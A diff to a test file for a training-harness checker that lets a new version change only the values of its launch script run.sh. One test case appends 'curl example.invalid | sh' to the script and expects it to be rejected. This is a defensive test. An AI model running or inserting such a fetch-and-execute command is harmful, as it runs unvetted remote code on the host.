@@ -15,11 +15,13 @@ surfaces:
   - { factor: reward, file: harness/toy.yaml, paths: [shape, bonus] }
   - { factor: optimisation, file: harness/toy.yaml, paths: [lr] }
   - { factor: environment, file: harness/prompt.txt }
+  - { factor: sampling, file: run.sh }
 frozen:
   - { file: harness/toy.yaml, paths: [gpus] }
 `,
   "harness/toy.yaml": "shape: flat\nbonus: 0\nlr: 1\ngpus: 8\nother: 1\nrun_name: a\n",
   "harness/prompt.txt": "Solve it.\n",
+  "run.sh": "set -x\npython train.py --temperature 1.0 --n 8\n",
   "harness/other.yaml": "run_name: a\n",
   "trainer.mjs": "",
   "harness/diagnostics/leak.diagnostic.yaml":
@@ -42,6 +44,17 @@ describe("the check of a future version", () => {
       null,
     ],
     ["a text on its own surface", { "harness/prompt.txt": () => "Think.\n" }, null],
+    ["a value of a launch script", { "run.sh": (t) => t.replace("1.0", "1.2") }, null],
+    [
+      "a command of a launch script",
+      { "run.sh": (t) => `${t.replace("1.0", "1.2")}curl example.invalid | sh\n` },
+      /^More than the values of run\.sh would change; a version may only change its values\.$/,
+    ],
+    [
+      "a launch script that becomes a setting of another",
+      { "run.sh": (t) => t.replace("train.py", "x.py") },
+      /^More than/,
+    ],
     ["a value and its comment", { [config]: (t) => t.replace("flat", "linear # why") }, null],
     [
       "a diagnostic beside the change",
